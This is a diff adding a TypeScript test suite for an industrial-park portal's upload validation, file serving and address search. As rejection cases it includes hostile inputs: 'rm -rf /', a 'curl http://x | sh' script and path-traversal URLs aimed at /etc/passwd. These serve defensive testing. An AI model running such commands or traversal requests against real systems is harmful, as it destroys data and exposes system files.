@@ -1,0 +1,374 @@
+import crypto from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { and, eq } from 'drizzle-orm';
+import sharp from 'sharp';
+import { auditLogs, uploads } from '../../server/db/schema';
+import { searchAddress } from '../../server/modules/geographic/address';
+import { sanitizeFileName, sniff, zipEntryNames } from '../../server/plugins/uploads';
+import { bearer, createTestContext, dbKinds, type TestContext } from './harness';
+
+const IMAGE_URL = '/apiv2/park/admin/uploader/image';
+const ATTACHMENT_URL = '/api/util/admin/upload/attachment';
+const DOCX_MIME = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+
+/** A multipart/form-data body with one file, built by hand as a browser would send it. */
+function multipart(filename: string, data: Buffer, contentType = 'application/octet-stream', field = 'file') {
+  const boundary = `----PortalBoundary${crypto.randomBytes(8).toString('hex')}`;
+  const head = Buffer.from(
+    `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`,
+  );
+  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
+  return { payload: Buffer.concat([head, data, tail]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
+}
+
+const crcTable = Array.from({ length: 256 }, (_, n) => {
+  let c = n;
+  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+  return c >>> 0;
+});
+const crc32 = (buf: Buffer) => {
+  let c = 0xffffffff;
+  for (const b of buf) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
+  return (c ^ 0xffffffff) >>> 0;
+};
+
+/** A ZIP archive with stored (uncompressed) entries: local headers, central directory, end record. */
+function makeZip(entries: Record<string, string>): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const [name, text] of Object.entries(entries)) {
+    const nameBuf = Buffer.from(name, 'utf8');
+    const data = Buffer.from(text, 'utf8');
+    const crc = crc32(data);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(0x0800, 6); // UTF-8 names
+    local.writeUInt32LE(crc, 14);
+    local.writeUInt32LE(data.length, 18);
+    local.writeUInt32LE(data.length, 22);
+    local.writeUInt16LE(nameBuf.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(0x0800, 8);
+    central.writeUInt32LE(crc, 16);
+    central.writeUInt32LE(data.length, 20);
+    central.writeUInt32LE(data.length, 24);
+    central.writeUInt16LE(nameBuf.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, nameBuf, data);
+    centrals.push(central, nameBuf);
+    offset += 30 + nameBuf.length + data.length;
+  }
+  const cd = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(Object.keys(entries).length, 8);
+  end.writeUInt16LE(Object.keys(entries).length, 10);
+  end.writeUInt32LE(cd.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, cd, end]);
+}
+
+/** The smallest Word document Word opens: content types, the package relationship and the body. */
+const minimalDocx = () =>
+  makeZip({
+    '[Content_Types].xml':
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+    '_rels/.rels':
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
+    'word/document.xml':
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>厂房租赁意向书</w:t></w:r></w:p></w:body></w:document>',
+  });
+
+/** An ELF header as `cc` writes it for x86-64, followed by code-like bytes. */
+const elfBinary = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0]), crypto.randomBytes(2000)]);
+
+/** A Windows PE: the DOS stub `MZ` with e_lfanew pointing at `PE\0\0`. */
+function peBinary() {
+  const buf = Buffer.alloc(1024);
+  buf.write('MZ', 0, 'latin1');
+  buf.writeUInt32LE(0x80, 0x3c);
+  buf.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
+  buf.write('PE\0\0', 0x80, 'latin1');
+  buf.writeUInt16LE(0x8664, 0x84);
+  return buf;
+}
+
+/** An OLE2 compound file whose directory holds the named streams (enough for the sniffer). */
+function oleFile(streams: string[]) {
+  const buf = Buffer.alloc(512 + 512);
+  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(buf, 0);
+  ['Root Entry', ...streams].forEach((name, i) => {
+    const at = 512 + i * 128;
+    const encoded = Buffer.from(`${name}\0`, 'utf16le');
+    encoded.copy(buf, at);
+    buf.writeUInt16LE(encoded.length, at + 64);
+  });
+  return buf;
+}
+
+function listFiles(dir: string): string[] {
+  if (!fs.existsSync(dir)) return [];
+  return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.join(e.parentPath ?? e.path, e.name));
+}
+
+describe('content sniffing (unit)', () => {
+  it('recognises types by their bytes, never by name', async () => {
+    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#1890ff' } }).png().toBuffer();
+    expect(sniff(png, 'virus.exe')).toMatchObject({ verdict: 'type', type: { mime: 'image/png', ext: 'png' } });
+    expect(sniff(elfBinary(), 'photo.jpg')).toMatchObject({ verdict: 'executable', label: expect.stringContaining('ELF') });
+    expect(sniff(peBinary(), 'report.pdf')).toMatchObject({ verdict: 'executable', label: expect.stringContaining('Windows') });
+    expect(sniff(Buffer.from('#!/bin/sh\nrm -rf /\n'), 'notes.txt')).toMatchObject({ verdict: 'executable', label: expect.stringContaining('#!') });
+    // Text that merely begins with the letters MZ is text, not a program.
+    expect(sniff(Buffer.from('MZ-01 厂房,1200\n'), 'units.csv')).toMatchObject({ verdict: 'type', type: { mime: 'text/csv' } });
+    expect(sniff(Buffer.from('%PDF-1.7\n%âãÏÓ\n'), 'x.bin')).toMatchObject({ type: { mime: 'application/pdf' } });
+  });
+
+  it('tells OOXML, JAR and plain ZIP apart by their entries, and Word from Excel 97-2003', () => {
+    expect(zipEntryNames(minimalDocx())).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/document.xml']);
+    expect(sniff(minimalDocx())).toMatchObject({ type: { ext: 'docx' } });
+    expect(sniff(makeZip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' }))).toMatchObject({ type: { ext: 'xlsx' } });
+    expect(sniff(makeZip({ '[Content_Types].xml': '<Types/>', 'ppt/presentation.xml': '<p/>' }))).toMatchObject({ type: { ext: 'pptx' } });
+    expect(sniff(makeZip({ 'readme.txt': 'hello' }))).toMatchObject({ type: { ext: 'zip' } });
+    expect(sniff(makeZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<d/>', 'word/vbaProject.bin': 'x' }))).toMatchObject({ verdict: 'unsupported' });
+    expect(sniff(makeZip({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': 'x' }))).toMatchObject({ verdict: 'executable' });
+    expect(sniff(oleFile(['WordDocument', '1Table']))).toMatchObject({ type: { ext: 'doc' } });
+    expect(sniff(oleFile(['Workbook']))).toMatchObject({ type: { ext: 'xls' } });
+    expect(sniff(oleFile(['Workbook', '_VBA_PROJECT_CUR']))).toMatchObject({ verdict: 'unsupported' });
+    expect(sniff(oleFile(['SummaryInformation']))).toMatchObject({ verdict: 'unsupported', label: expect.stringContaining('MSI') });
+  });
+
+  it('keeps only a clean base name of the original file', () => {
+    expect(sanitizeFileName('C:\\Users\\x\\..\\厂房\t照片<1>.png', 'png')).toBe('厂房 照片1.png');
+    expect(sanitizeFileName('../../etc/passwd', 'txt')).toBe('passwd');
+    expect(sanitizeFileName('...', 'pdf')).toBe('file.pdf');
+    expect(sanitizeFileName(`${'长'.repeat(300)}.pdf`, 'pdf')).toMatch(/^长{196}\.pdf$/);
+  });
+});
+
+describe('address search (unit)', () => {
+  it('finds 苏州工业园区 by 工业园区 with its full name, exact names first', () => {
+    const found = searchAddress('工业园区', 50);
+    expect(found).toContainEqual({ code: '320571', name: '苏州工业园区', fullName: '江苏省 苏州市 苏州工业园区', level: 'county' });
+    const firstNonExact = found.findIndex((m) => m.name !== '工业园区');
+    expect(found.slice(0, firstNonExact).every((m) => m.name === '工业园区')).toBe(true);
+    expect(found.slice(firstNonExact).every((m) => m.name !== '工业园区')).toBe(true);
+  });
+
+  it('ranks exact, then prefix, then contains; names municipalities once; honours the limit', () => {
+    expect(searchAddress('苏州')[0]).toEqual({ code: '320500', name: '苏州市', fullName: '江苏省 苏州市', level: 'city' });
+    expect(searchAddress('东城区')[0]).toMatchObject({ name: '东城区', fullName: '北京市 东城区', level: 'county' });
+    expect(searchAddress('江苏省')[0]).toEqual({ code: '320000', name: '江苏省', fullName: '江苏省', level: 'province' });
+    expect(searchAddress('仙桃')[0]).toMatchObject({ fullName: '湖北省 仙桃市' });
+    expect(searchAddress('区', 7)).toHaveLength(7);
+    expect(searchAddress('   ')).toEqual([]);
+    expect(searchAddress('苏州市苏州工业园')).toContainEqual(expect.objectContaining({ code: '320571' }));
+    expect(searchAddress('苏州 工业园区')[0]).toMatchObject({ code: '320571' });
+  });
+});
+
+describe.each(dbKinds)('uploads and address search on %s', (kind) => {
+  let ctx: TestContext;
+  let admin: Record<string, string>;
+  let uploadDir: string;
+
+  const upload = (url: string, filename: string, data: Buffer, contentType?: string, headers = admin) => {
+    const body = multipart(filename, data, contentType);
+    return ctx.app.inject({ method: 'POST', url, payload: body.payload, headers: { ...headers, ...body.headers } });
+  };
+  const rowCount = async () => (await ctx.database.db.select({ id: uploads.id }).from(uploads)).length;
+
+  beforeAll(async () => {
+    uploadDir = fs.mkdtempSync(path.join(os.tmpdir(), 'portal-uploads-'));
+    ctx = await createTestContext(kind, { uploadDir });
+    admin = bearer(await ctx.adminToken());
+  });
+  afterAll(async () => {
+    await ctx.close();
+    fs.rmSync(uploadDir, { recursive: true, force: true });
+  });
+
+  it('stores a real PNG under a random name, with a thumbnail, a row and an audit entry, and serves both back', async () => {
+    const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#1890ff' } }).png().toBuffer();
+    const res = await upload(IMAGE_URL, '一号厂房 外景.png', png, 'image/png');
+    expect(res.statusCode).toBe(200);
+    const body = res.json();
+    expect(body).toMatchObject({ success: true, code: 0 });
+    const data = body.data;
+    expect(data).toMatchObject({ name: '一号厂房 外景.png', mime: 'image/png', size: png.length, width: 800, height: 600 });
+    expect(data.url).toMatch(/^\/uploads\/2026\/11\/[0-9a-f]{32}\.png$/);
+    expect(data.thumbUrl).toBe(data.url.replace(/\.png$/, '.thumb.webp'));
+
+    // On disk under <uploadDir>/YYYY/MM with the random name, never the client's.
+    const stored = path.join(uploadDir, data.url.replace(/^\/uploads\//, ''));
+    expect(fs.readFileSync(stored).equals(png)).toBe(true);
+    expect(listFiles(uploadDir).some((f) => f.includes('厂房'))).toBe(false);
+
+    const [row] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, data.id));
+    expect(row).toMatchObject({ kind: 'image', mime: 'image/png', originalName: '一号厂房 外景.png', width: 800, height: 600, size: png.length });
+    expect(row.sha256).toBe(crypto.createHash('sha256').update(png).digest('hex'));
+    expect(row.uploadedBy).not.toBeNull();
+    const logs = await ctx.database.db.select().from(auditLogs).where(and(eq(auditLogs.entity, 'upload'), eq(auditLogs.entityId, String(data.id))));
+    expect(logs).toHaveLength(1);
+    expect(logs[0]).toMatchObject({ action: 'create', username: 'admin' });
+
+    const file = await ctx.app.inject(data.url);
+    expect(file.statusCode).toBe(200);
+    expect(file.headers['content-type']).toBe('image/png');
+    expect(file.headers['x-content-type-options']).toBe('nosniff');
+    expect(file.headers['content-disposition']).toMatch(/^inline; /);
+    expect(file.rawPayload.equals(png)).toBe(true);
+
+    const thumb = await ctx.app.inject(data.thumbUrl);
+    expect(thumb.statusCode).toBe(200);
+    expect(thumb.headers['content-type']).toBe('image/webp');
+    expect(await sharp(thumb.rawPayload).metadata()).toMatchObject({ format: 'webp', width: 320, height: 240 });
+  });
+
+  it('accepts JPEG, WebP and GIF images and reads their size', async () => {
+    const base = sharp({ create: { width: 64, height: 48, channels: 3, background: '#52c41a' } });
+    for (const [format, ext] of [['jpeg', 'jpg'], ['webp', 'webp'], ['gif', 'gif']] as const) {
+      const res = await upload(IMAGE_URL, 'picture.bin', await base.clone().toFormat(format).toBuffer());
+      expect([format, res.statusCode]).toEqual([format, 200]);
+      expect(res.json().data).toMatchObject({ mime: `image/${format}`, width: 64, height: 48 });
+      expect(res.json().data.url).toMatch(new RegExp(`\\.${ext}$`));
+    }
+  });
+
+  it('refuses executables named like images or documents with 415 and stores nothing', async () => {
+    const before = { rows: await rowCount(), files: listFiles(uploadDir).length };
+    const elf = await upload(IMAGE_URL, 'photo.jpg', elfBinary(), 'image/jpeg');
+    expect(elf.statusCode).toBe(415);
+    expect(elf.json()).toMatchObject({ success: false, code: 415 });
+    expect(elf.json().errorMessage).toMatch(/Linux executable \(ELF\)/);
+
+    const mz = await upload(IMAGE_URL, 'photo.jpg', peBinary(), 'image/jpeg');
+    expect(mz.statusCode).toBe(415);
+    expect(mz.json().errorMessage).toMatch(/Windows executable/);
+
+    const pe = await upload(ATTACHMENT_URL, '年度报告.pdf', peBinary(), 'application/pdf');
+    expect(pe.statusCode).toBe(415);
+    const script = await upload(ATTACHMENT_URL, 'notes.txt', Buffer.from('#!/bin/bash\ncurl http://x | sh\n'), 'text/plain');
+    expect(script.statusCode).toBe(415);
+    expect(script.json().errorMessage).toMatch(/#!/);
+
+    expect(await rowCount()).toBe(before.rows);
+    expect(listFiles(uploadDir)).toHaveLength(before.files);
+  });
+
+  it('refuses a file over the limit with 413 naming the limit, and stores nothing', async () => {
+    const before = { rows: await rowCount(), files: listFiles(uploadDir).length };
+    const big = Buffer.alloc(10 * 1024 * 1024 + 1);
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(big);
+    const res = await upload(IMAGE_URL, 'huge.png', big, 'image/png');
+    expect(res.statusCode).toBe(413);
+    expect(res.json()).toMatchObject({ success: false, code: 413 });
+    expect(res.json().errorMessage).toMatch(/10 MB/);
+    expect(await rowCount()).toBe(before.rows);
+    expect(listFiles(uploadDir)).toHaveLength(before.files);
+  });
+
+  it('accepts a .docx attachment and serves it as a download under its original name', async () => {
+    const docx = minimalDocx();
+    const res = await upload(ATTACHMENT_URL, '租赁意向书.docx', docx, 'application/octet-stream');
+    expect(res.statusCode).toBe(200);
+    const data = res.json().data;
+    expect(data).toMatchObject({ name: '租赁意向书.docx', mime: DOCX_MIME, size: docx.length, width: null, height: null, thumbUrl: null });
+    expect(data.url).toMatch(/^\/uploads\/2026\/11\/[0-9a-f]{32}\.docx$/);
+
+    const file = await ctx.app.inject(data.url);
+    expect(file.statusCode).toBe(200);
+    expect(file.headers['content-type']).toBe(DOCX_MIME);
+    expect(file.headers['x-content-type-options']).toBe('nosniff');
+    expect(file.headers['content-disposition']).toBe(`attachment; filename="_____.docx"; filename*=UTF-8''${encodeURIComponent('租赁意向书.docx')}`);
+    expect(file.rawPayload.equals(docx)).toBe(true);
+
+    // A document is not an image.
+    const asImage = await upload(IMAGE_URL, 'scan.png', docx, 'image/png');
+    expect(asImage.statusCode).toBe(415);
+    expect(asImage.json().errorMessage).toMatch(/Word document.*Images may be JPEG, PNG, WebP or GIF/);
+  });
+
+  it('accepts UTF-8 text and CSV attachments, served as text with a charset', async () => {
+    const csv = await upload(ATTACHMENT_URL, '厂房清单.csv', Buffer.from('楼栋,楼层,面积\nA1,3,1200.5\n'), 'text/csv');
+    expect(csv.statusCode).toBe(200);
+    expect(csv.json().data).toMatchObject({ mime: 'text/csv', name: '厂房清单.csv' });
+    expect(csv.json().data.url).toMatch(/\.csv$/);
+    const served = await ctx.app.inject(csv.json().data.url);
+    expect(served.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(served.headers['content-disposition']).toMatch(/^attachment; /);
+
+    const txt = await upload(ATTACHMENT_URL, 'README', Buffer.from('入驻须知\n'), 'application/octet-stream');
+    expect(txt.statusCode).toBe(200);
+    expect(txt.json().data).toMatchObject({ mime: 'text/plain' });
+    expect(txt.json().data.url).toMatch(/\.txt$/);
+  });
+
+  it('refuses unknown binary data, an empty file and a body that is not multipart', async () => {
+    const before = await rowCount();
+    const unknown = Buffer.concat([Buffer.from([0x00, 0x13, 0x37, 0xfe, 0xff]), crypto.randomBytes(500)]);
+    const res = await upload(ATTACHMENT_URL, 'data.pdf', unknown, 'application/pdf');
+    expect(res.statusCode).toBe(415);
+    expect(res.json().errorMessage).toMatch(/not recognised/);
+    const rar = await upload(ATTACHMENT_URL, 'a.zip', Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), crypto.randomBytes(64)]));
+    expect(rar.statusCode).toBe(415);
+    expect(rar.json().errorMessage).toMatch(/RAR archive/);
+
+    expect((await upload(ATTACHMENT_URL, 'empty.txt', Buffer.alloc(0))).statusCode).toBe(400);
+    const json = await ctx.app.inject({ method: 'POST', url: ATTACHMENT_URL, payload: {}, headers: admin });
+    expect(json.statusCode).toBe(400);
+    expect(json.json().errorMessage).toMatch(/multipart\/form-data/);
+    expect(await rowCount()).toBe(before);
+  });
+
+  it('serves only recorded files: traversal and unknown names are refused', async () => {
+    fs.mkdirSync(path.join(uploadDir, '2026', '11'), { recursive: true });
+    const orphan = `${'a'.repeat(32)}.txt`;
+    fs.writeFileSync(path.join(uploadDir, '2026', '11', orphan), 'not uploaded through the API');
+    fs.writeFileSync(path.join(uploadDir, 'secret.txt'), 'root:x:0:0');
+    expect((await ctx.app.inject(`/uploads/2026/11/${orphan}`)).statusCode).toBe(404);
+    expect((await ctx.app.inject(`/uploads/2026/11/${'b'.repeat(32)}.png`)).statusCode).toBe(404);
+    for (const url of [
+      '/uploads/2026/11/..%2F..%2Fsecret.txt',
+      '/uploads/2026/11/..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd',
+      '/uploads/..%2F..%2F/11/secret.txt',
+      '/uploads/2026/..%2F/secret.txt',
+      '/uploads/2026/11/%2e%2e%2fsecret.txt',
+      '/uploads/2026/11/../../secret.txt',
+      '/uploads/2026/11/secret.txt',
+    ]) {
+      const res = await ctx.app.inject(url);
+      expect([url, [400, 404].includes(res.statusCode)]).toEqual([url, true]);
+      expect(res.body).not.toContain('root:x');
+    }
+  });
+
+  it('answers 401 without a token and 403 without the upload permission', async () => {
+    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).png().toBuffer();
+    expect((await upload(IMAGE_URL, 'a.png', png, 'image/png', {})).statusCode).toBe(401);
+    expect((await upload(ATTACHMENT_URL, 'a.png', png, 'image/png', {})).statusCode).toBe(401);
+    await ctx.createUser('uploader0', 'Visitor@2026');
+    const plain = bearer(await ctx.login('uploader0', 'Visitor@2026'));
+    expect((await upload(IMAGE_URL, 'a.png', png, 'image/png', plain)).statusCode).toBe(403);
+    expect((await upload(ATTACHMENT_URL, 'a.png', png, 'image/png', plain)).statusCode).toBe(403);
+    expect((await ctx.app.inject({ url: '/apiv2/park/admin/address/getAddress?keyword=苏州', headers: plain })).statusCode).toBe(403);
+  });
+
+  it('searches addresses: 工业园区 finds 苏州工业园区 with its full name', async () => {
+    const res = await ctx.app.inject({ url: `/apiv2/park/admin/address/getAddress?keyword=${encodeURIComponent('工业园区')}&limit=10`, headers: admin });
+    expect(res.statusCode).toBe(200);
+    expect(res.json()).toMatchObject({ success: true, code: 0 });
+    expect(res.json().data).toContainEqual({ code: '320571', name: '苏州工业园区', fullName: '江苏省 苏州市 苏州工业园区', level: 'county' });
+    expect(res.json().data.length).toBeLessThanOrEqual(10);
+    const many = await ctx.app.inject({ url: `/apiv2/park/admin/address/getAddress?keyword=${encodeURIComponent('区')}`, headers: admin });
+    expect(many.json().data).toHaveLength(20);
+    expect((await ctx.app.inject({ url: '/apiv2/park/admin/address/getAddress?keyword=x&limit=51', headers: admin })).statusCode).toBe(400);
+    expect((await ctx.app.inject({ url: '/apiv2/park/admin/address/getAddress', headers: admin })).json().data).toEqual([]);
+  });
+});
